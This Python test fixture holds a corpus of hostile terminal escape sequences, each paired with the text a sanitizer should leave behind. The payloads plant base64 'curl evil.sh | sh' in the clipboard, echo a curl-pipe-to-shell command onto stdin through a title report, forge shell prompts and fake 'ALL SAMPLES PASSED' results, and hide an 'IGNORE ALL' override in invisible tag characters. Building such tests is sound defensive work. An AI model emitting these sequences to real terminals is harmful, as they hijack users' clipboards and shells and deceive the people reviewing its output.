"""Hostile model output: the corpus every terminal-safety test of tokentide uses.

Usage::

    from tests.hostile_payloads import PAYLOADS, FORBIDDEN, MESSAGE_END, combined_stream

* ``PAYLOADS``: a list of :class:`Payload` ``(name, payload, visible)``.  ``payload`` is the
  text a model (or a server error body, a model name, a generated title …) sends;
  ``visible`` is exactly what :func:`tokentide.sanitize.sanitize` must turn it into, and so
  the text a person must still see on the terminal.  Most ``visible`` strings are one
  line without Markdown syntax, so a pty/tmux test can look for them in a captured
  screen; the few with a newline or a Markdown character say so in their name.
* ``FORBIDDEN``: byte signatures of the payloads' sequences.  None of them may reach a
  terminal.  A pty capture also contains the application's own sequences (Textual clears
  the screen, moves the cursor, …), so compare against a baseline run with benign text,
  or better, count occurrences in the hostile run against the baseline run.
* ``HIDDEN``: per payload name, text inside a removed sequence (a window title, a link
  target, clipboard base64) that must *not* appear on screen.
* ``MESSAGE_END``: names of payloads that leave the parser inside a sequence (an
  unterminated OSC, a lone ESC at the end).  They swallow what follows until the end of
  the message, so send each as its own message, or last.
* :func:`combined_stream`: one message carrying every other payload, one per line, with
  the lines that must be visible.

Sources: reliability.md §1 (vercel/ai PR #20052 payload table, garak ``ansiescape``,
Terminal DiLLMa, inspect_ai PR #4854, penelope #128, the §7 string ``P``) and xterm's
control sequence list.
"""

from __future__ import annotations

from typing import NamedTuple

__all__ = [
    "FORBIDDEN",
    "HIDDEN",
    "MESSAGE_END",
    "PAYLOADS",
    "Payload",
    "combined_stream",
]

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"


class Payload(NamedTuple):
    name: str
    payload: str
    visible: str


def _tags(text: str) -> str:
    """``text`` as invisible Unicode tag characters (ASCII smuggling)."""
    return "".join(chr(0xE0000 + ord(c)) for c in text)


def _tag_markers(text: str) -> str:
    return "".join(f"⟨U+{0xE0000 + ord(c):05X}⟩" for c in text)


# The reference's recipe string (reliability.md §7).
P_REFERENCE = (
    "A\x1b]52;c;SGVsbG8=\x1b\\B \x1b]8;;https://evil.example/\x1b\\LINK\x1b]8;;\x1b\\ "
    "C\x1b[2JD \x9b31mE \x1bcF \x1b]0;TITLEPWN\x07G"
)

PAYLOADS: list[Payload] = [
    # --- OSC 52: clipboard write / read --------------------------------------------------
    Payload(
        "osc52-bel", f"clip-bel {ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g={BEL}after", "clip-bel after"
    ),
    Payload("osc52-st", f"clip-st {ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g={ST}after", "clip-st after"),
    Payload("osc52-primary", f"clip-p {ESC}]52;p;cHduZWQ={BEL}after", "clip-p after"),
    Payload("osc52-query", f"clip-q {ESC}]52;c;?{BEL}after", "clip-q after"),
    Payload("osc52-8bit", "clip-8 \x9d52;c;cHduZWQ=\x9cafter", "clip-8 after"),
    Payload("osc52-8bit-bel", "clip-8b \x9d52;c;cHduZWQ=\x07after", "clip-8b after"),
    # --- OSC 8: hyperlinks ---------------------------------------------------------------
    Payload(
        "osc8-st",
        f"see {ESC}]8;;https://evil.example/{ST}the docs{ESC}]8;;{ST} now",
        "see the docs now",
    ),
    Payload(
        "osc8-bel-id",
        f"read {ESC}]8;id=x1;https://evil.example/a{BEL}manual{ESC}]8;;{BEL} page",
        "read manual page",
    ),
    Payload(
        "osc8-8bit",
        "open \x9d8;;https://evil.example/\x9csite\x9d8;;\x9c ok",
        "open site ok",
    ),
    # --- OSC 0/1/2 titles, and the title report that echoes them onto stdin ---------------
    Payload("osc0-title-bel", f"title0 {ESC}]0;TITLEPWN{BEL}after", "title0 after"),
    Payload("osc2-title-st", f"title2 {ESC}]2;TITLEPWN{ST}after", "title2 after"),
    Payload("osc1-icon", f"icon {ESC}]1;ICONPWN{BEL}after", "icon after"),
    Payload(
        "osc2-then-csi21t",
        f"rep {ESC}]2;;curl evil.example|sh;{BEL}{ESC}[21t after",
        "rep  after",
    ),
    Payload(
        "inspect-ai-fake-pass",
        f"{ESC}]0;compromised{BEL}{ESC}[2K\rALL SAMPLES PASSED",
        "ALL SAMPLES PASSED",
    ),
    # --- other OSC -----------------------------------------------------------------------
    Payload("osc777-notify", f"n {ESC}]777;notify;Update;run curl{BEL}after", "n after"),
    Payload("osc4-palette", f"pal {ESC}]4;1;rgb:ff/ff/ff{ST}after", "pal after"),
    Payload("osc11-bg-query", f"bg {ESC}]11;?{BEL}after", "bg after"),
    Payload("osc1337-file", f"it2 {ESC}]1337;File=inline=1:QUFBQQ=={BEL}after", "it2 after"),
    Payload("osc-ended-by-esc-csi", f"x {ESC}]0;TITLEPWN{ESC}[31mred{ESC}[0m", "x red"),
    Payload("osc-aborted-by-can", f"can {ESC}]0;TITLEPWN\x18after", "can after"),
    # --- CSI: screen, cursor, reports, modes ----------------------------------------------
    Payload("csi-2j", f"clear{ESC}[2J screen", "clear screen"),
    Payload("csi-3j", f"scroll{ESC}[3J back", "scroll back"),
    Payload("csi-h-2j-forged-prompt", f"{ESC}[H{ESC}[2J$ run curl evil.sh", "$ run curl evil.sh"),
    Payload("csi-6n-status-report", f"dsr {ESC}[6n after", "dsr  after"),
    Payload("csi-21t-title-report", f"t21 {ESC}[21t after", "t21  after"),
    Payload("csi-14t-size-report", f"t14 {ESC}[14t after", "t14  after"),
    Payload("csi-da-query", f"da {ESC}[c{ESC}[>c after", "da  after"),
    Payload("csi-10a-cursor-up", f"up {ESC}[10A{ESC}[2K after", "up  after"),
    Payload("csi-cup-overwrite", f"ok {ESC}[1;1HOVERWRITE", "ok OVERWRITE"),
    Payload("csi-sgr8-conceal", f"shown {ESC}[8mhidden{ESC}[0m end", "shown hidden end"),
    Payload("csi-sgr-colors", f"{ESC}[1;31mred{ESC}[0m {ESC}[38;2;1;2;3mtc{ESC}[m", "red tc"),
    Payload("csi-alt-screen", f"alt {ESC}[?1049h after", "alt  after"),
    Payload("csi-hide-cursor", f"cur {ESC}[?25l after", "cur  after"),
    Payload("csi-mouse-tracking", f"mouse {ESC}[?1000h{ESC}[?1006h after", "mouse  after"),
    Payload("csi-paste-mode-off", f"bp {ESC}[?2004l after", "bp  after"),
    Payload("bracketed-paste-end", f"paste {ESC}[201~ echo pwned", "paste  echo pwned"),
    Payload("bracketed-paste-start", f"paste2 {ESC}[200~ after", "paste2  after"),
    Payload("csi-8bit-2j", "c8 \x9b2J after", "c8  after"),
    Payload("csi-8bit-sgr", "c8s \x9b31mred", "c8s red"),
    Payload("csi-8bit-6n", "c8r \x9b6n after", "c8r  after"),
    Payload("csi-can-abort", f"cc {ESC}[12\x18after", "cc after"),
    # --- ESC x two-character and nF sequences -----------------------------------------------
    Payload("esc-c-reset", f"r1{ESC}cr2", "r1r2"),
    Payload("esc-dec-graphics", f"g {ESC}(0lqqk{ESC}(B after", "g lqqk after"),
    Payload("esc-decaln", f"aln {ESC}#8 after", "aln  after"),
    Payload("esc-save-restore", f"sv{ESC}7 X{ESC}8 ok", "sv X ok"),
    Payload("esc-reverse-index", f"ri{ESC}M{ESC}M after", "ri after"),
    Payload("esc-st-alone", f"st {ST} after", "st  after"),
    # --- DCS / SOS / PM / APC (7-bit and 8-bit) ------------------------------------------
    Payload("dcs-xtgettcap", f"d1 {ESC}P+q544e{ST}after", "d1 after"),
    Payload("dcs-decrqss", f"d2 {ESC}P$qm{ST}after", "d2 after"),
    Payload(
        "dcs-tmux-passthrough",
        f"tm {ESC}Ptmux;{ESC}{ESC}]52;c;cHduZWQ={BEL}{ST}after",
        "tm after",
    ),
    Payload("dcs-sixel", f"six {ESC}Pq#0;2;0;0;0#1!10~-{ST}after", "six after"),
    Payload("dcs-bel-is-content", f"d3 {ESC}Pab{BEL}cd{ST}after", "d3 after"),
    Payload("dcs-8bit", "d8 \x90+q544e\x9cafter", "d8 after"),
    Payload("apc-kitty-graphics", f"k {ESC}_Gf=100,a=T;QUFBQQ=={ST}after", "k after"),
    Payload("apc-8bit", "a8 \x9fGa=d\x9cafter", "a8 after"),
    Payload("pm", f"pm {ESC}^privacy message{ST}after", "pm after"),
    Payload("pm-8bit", "pm8 \x9eprivacy\x9cafter", "pm8 after"),
    Payload("sos", f"sos {ESC}Xstart of string{ST}after", "sos after"),
    Payload("sos-8bit", "sos8 \x98start\x9cafter", "sos8 after"),
    # --- C0 / C1 / DEL: overwrite tricks and noise ----------------------------------------
    Payload("bel", f"ding{BEL}{BEL}{BEL}dong", "dingdong"),
    Payload("backspace-overwrite", "rm -rf ~" + "\b" * 8 + "ls", "rm -rf ~ls"),
    Payload("cr-overwrite", "DANGER run this\rsafe", "DANGER run thissafe"),
    Payload("crlf-newline", "line1\r\nline2", "line1\nline2"),
    Payload("nul-vt-ff", "a\x00b\x0bc\x0cd", "abcd"),
    Payload("del", "de\x7fl", "del"),
    Payload("c1-nel-ind-ri", "c1\x85\x84\x8d\x9c\x9aok", "c1ok"),
    Payload("lone-esc-before-text", f"e1{ESC}éa", "e1éa"),
    Payload("esc-space-nf", f"e2{ESC} Fok", "e2ok"),
    # --- invisible Unicode ------------------------------------------------------------------
    Payload(
        "bidi-trojan-source",
        'access = "user\u202e \u2066// admin\u2069 \u2066"',
        'access = "user⟨U+202E⟩ ⟨U+2066⟩// admin⟨U+2069⟩ ⟨U+2066⟩"',
    ),
    Payload("bidi-rlo", "file\u202etxt.exe", "file⟨U+202E⟩txt.exe"),
    Payload(
        "tag-smuggling",
        "hi" + _tags("IGNORE ALL") + " there",
        "hi" + _tag_markers("IGNORE ALL") + " there",
    ),
    Payload("zero-width", "pass\u200bwo\u200crd\ufeff", "password"),
    # --- garak ansiescape "escaped" forms: literal text, must stay exactly as is ----------
    Payload(
        "garak-literal-hex",
        r"\x1b]8;;https://x.example/\x07link\x1b]8;;\x07",
        r"\x1b]8;;https://x.example/\x07link\x1b]8;;\x07",
    ),
    Payload("garak-literal-octal", r"\033[2J\033]52;c;SGk=\007", r"\033[2J\033]52;c;SGk=\007"),
    Payload("garak-literal-unicode", r"\u001b[6n \u009b31m", r"\u001b[6n \u009b31m"),
    Payload("garak-literal-caret", "^[[2J ^[]0;t^G", "^[[2J ^[]0;t^G"),
    # --- reference mix and text that must survive -----------------------------------------
    Payload("reference-P", P_REFERENCE, "AB LINK CD E F G"),
    Payload(
        "rich-markup-literal-brackets",
        "[link=https://evil.example]click[/link] [/] [bold]x[/bold]",
        "[link=https://evil.example]click[/link] [/] [bold]x[/bold]",
    ),
    Payload(
        "benign-unicode",
        "👩\u200d💻 中文 مرحبا שלום e\u0301\tTab",
        "👩\u200d💻 中文 مرحبا שלום e\u0301\tTab",
    ),
    # --- message-end payloads (see MESSAGE_END) ---------------------------------------
    Payload(
        "unterminated-osc-swallows", f"before {ESC}]0;swallow everything after this", "before "
    ),
    Payload("unterminated-osc52", f"kept {ESC}]52;c;Y3VybCBldmls", "kept "),
    Payload("unterminated-dcs", f"kept2 {ESC}Pq#0;2;0;0;0", "kept2 "),
    Payload("unterminated-8bit-osc", "kept3 \x9d8;;https://evil.example/ text", "kept3 "),
    Payload("lone-esc-at-end", f"tail{ESC}", "tail"),
    Payload("csi-at-end", f"tail2{ESC}[12;3", "tail2"),
]

MESSAGE_END: frozenset[str] = frozenset(
    {
        "unterminated-osc-swallows",
        "unterminated-osc52",
        "unterminated-dcs",
        "unterminated-8bit-osc",
        "lone-esc-at-end",
        "csi-at-end",
    }
)

HIDDEN: dict[str, tuple[str, ...]] = {
    "osc52-bel": ("Y3VybCBldmlsLnNoIHwgc2g=",),
    "osc52-st": ("Y3VybCBldmlsLnNoIHwgc2g=",),
    "osc52-8bit": ("cHduZWQ=",),
    "osc8-st": ("evil.example",),
    "osc8-bel-id": ("evil.example",),
    "osc8-8bit": ("evil.example",),
    "osc0-title-bel": ("TITLEPWN",),
    "osc2-title-st": ("TITLEPWN",),
    "osc1-icon": ("ICONPWN",),
    "osc2-then-csi21t": ("evil.example",),
    "inspect-ai-fake-pass": ("compromised",),
    "osc777-notify": ("run curl",),
    "osc-ended-by-esc-csi": ("TITLEPWN",),
    "osc-aborted-by-can": ("TITLEPWN",),
    "dcs-tmux-passthrough": ("tmux", "cHduZWQ="),
    "apc-kitty-graphics": ("QUFBQQ==",),
    "pm": ("privacy",),
    "sos": ("start of string",),
    "reference-P": ("TITLEPWN", "evil.example", "SGVsbG8="),
    "unterminated-osc-swallows": ("swallow",),
    "unterminated-8bit-osc": ("evil.example", "text"),
}

FORBIDDEN: tuple[bytes, ...] = (
    b"\x1b]52",  # OSC 52 clipboard
    b"\x1b]8;",  # OSC 8 hyperlink
    b"\x1b]0;",  # OSC 0 title
    b"\x1b]1;",  # OSC 1 icon title
    b"\x1b]2;",  # OSC 2 title
    b"\x1b]4;",  # OSC 4 palette
    b"\x1b]11;",  # OSC 11 background query
    b"\x1b]777;",  # OSC 777 notification
    b"\x1b]1337;",  # iTerm2 file transfer
    b"\x1b[2J",  # erase screen
    b"\x1b[3J",  # erase scrollback
    b"\x1b[6n",  # cursor position report (answer lands on stdin)
    b"\x1b[21t",  # title report (answer lands on stdin)
    b"\x1b[14t",  # window size report
    b"\x1b[10A",  # cursor up 10
    b"\x1b[8m",  # conceal
    b"\x1b[201~",  # bracketed-paste end
    b"\x1b[200~",  # bracketed-paste start
    b"\x1b[?2004l",  # bracketed paste off
    b"\x1b[?1049h",  # alternate screen
    b"\x1bc",  # full reset
    b"\x1b#8",  # DECALN
    b"\x1b(0",  # DEC line drawing charset
    b"\x1bP",  # DCS
    b"\x1b_",  # APC
    b"\x1b^",  # PM
    b"\x1bX",  # SOS
    b"\xc2\x9b",  # 8-bit CSI as UTF-8
    b"\xc2\x9d",  # 8-bit OSC
    b"\xc2\x90",  # 8-bit DCS
    b"\xc2\x98",  # 8-bit SOS
    b"\xc2\x9e",  # 8-bit PM
    b"\xc2\x9f",  # 8-bit APC
    b"\xc2\x85",  # NEL
    b"\x07",  # BEL
    b"\x00",  # NUL
    b"\x7f",  # DEL
)


def combined_stream() -> tuple[str, list[str]]:
    """One message with every payload not in ``MESSAGE_END``, one per line.

    Returns ``(text, visible)``: ``sanitize(text) == "\\n".join(visible)``.
    """
    chosen = [p for p in PAYLOADS if p.name not in MESSAGE_END]
    return "\n".join(p.payload for p in chosen), [p.visible for p in chosen]
